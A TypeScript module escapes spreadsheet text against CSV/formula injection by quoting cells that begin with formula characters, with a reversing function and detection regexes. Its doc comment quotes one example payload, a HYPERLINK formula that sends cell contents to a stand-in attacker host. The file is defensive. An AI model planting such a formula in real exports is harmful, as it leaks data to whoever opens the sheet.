/**
 * Text that no spreadsheet takes for a formula. The attack (OWASP, "CSV Injection"; ASVS 5.0, 1.2.10): a user whose name is
 * `=HYPERLINK("https://evil.example/"&A1,"Ada")`, and an owner who opens the export. Excel, LibreOffice and Google Sheets
 * compute what begins with `=`, `+`, `-` or `@`, also in its full-width form, and skip a tab or line break before it. A `'`
 * in front makes text of it.
 *
 * A new cell also begins behind `;` or a tab where the language of the reader separates cells by those, and behind a line
 * break where quotes are not minded: so there as well, and behind `|`, which separates groups.
 *
 * A `'` that stands in such a place already gets another: {@link fromSpreadsheetText} gives every text back as it was.
 */
export function asSpreadsheetText(text: string): string {
  return text.replace(atFormula, "'")
}

/** What {@link asSpreadsheetText} was given. */
export function fromSpreadsheetText(text: string): string {
  return text.replace(beforeFormula, '')
}

const atFormula = /(?<=^|[;|\t\r\n])(?='*[=+\-@\0\t\r\n＝＋－＠])/g
const beforeFormula = /(?<=^|[;|\t\r\n])'(?='*[=+\-@\0\t\r\n＝＋－＠])/g
